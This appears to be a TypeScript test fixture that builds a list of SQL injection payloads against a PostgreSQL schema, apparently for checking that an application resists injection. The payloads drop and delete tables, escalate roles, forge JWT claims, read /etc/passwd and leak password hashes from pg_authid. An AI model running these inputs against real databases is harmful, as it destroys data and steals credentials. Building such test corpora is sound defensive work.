/** Texts that would break out of a literal, identifier, comment, pattern or format, and sleep, change or read more as SQL. */

const sleep = 'pg_sleep(9)';
const change = "update builder.quotes set sport='injected'";

/** SQL to run after an end. */
const tails = [
  `; ${change}; --`,
  ` or 1=1 --`,
  ` or (select ${sleep}) is null --`,
  ` union select internal_notes from builder.quotes --`,
  `||(select ${sleep})||`,
  ` and 1=cast((select rolpassword from pg_authid limit 1) as int) --`,
];

/** Characters that may end a literal: all kinds of quotes, including those that other encodings turn into quotes. */
const ends = [
  ...["'", "''", '"', '\\', "\\'", '\\"', "')", '")', "'))", '*/', '\n', '$$', '$body$', "E'", "U&'"],
  // Quotation marks, apostrophes and primes of Unicode.
  ...['\u2019', '\u02bc', '\uff07', '\u2032', '\uff02'],
  // What GBK made of a backslash before a quote, and what ends in 0x27 when cut to a byte.
  ...['\u00bf\u0027', '\u0100\u0127'],
  ...['%27', '%2527', '&#39;', '\\u0027', '\\x27', '\\047'],
];

/** Well-known payloads. */
const classics = [
  "'; drop table builder.quotes; --",
  "'; rollback; begin; delete from builder.quotes; commit; --",
  '1; set role postgres; --',
  "' and (select set_config('role','builder_staff',true)) is not null --",
  "'; select set_config('request.jwt.claims','{}',false); --",
  "'||(select string_agg(internal_notes,',') from builder.quotes)||'",
  "(select pg_read_file('/etc/passwd'))",
  '{"a":"\'; drop table builder.quotes; --"}',
  '{"\',(select pg_sleep(9)),\'"}',
  `*/; ${change}; /*`,
  ...['/*! union select */', '-- ', '#', ';', '\\', '::regclass', '$1', '?', ':name', '%s', '{{7*7}}'],
  "\\\\'; select pg_sleep(9); --",
  "'\\'';",
  '::int) union select 1 --',
  "x'); select pg_terminate_backend(pg_backend_pid()); --",
  `'; do $$ begin perform ${sleep}; end $$; --`,
  `1 from builder.quotes; ${change} where true returning internal_notes; --`,
  "\u0000'; select 1; --",
  "'/**/or/**/1=1/**/--",
  "'\u0085; select pg_sleep(9)--",
  "a\u2028'; select pg_sleep(9)--",
];

/** Each end is combined with one tail, and the plain quote with all. */
export const payloads: readonly string[] = [
  ...classics,
  ...ends.map((end, index) => `x${end}${tails[index % tails.length]}`),
  ...tails.map(tail => `x'${tail}`),
];
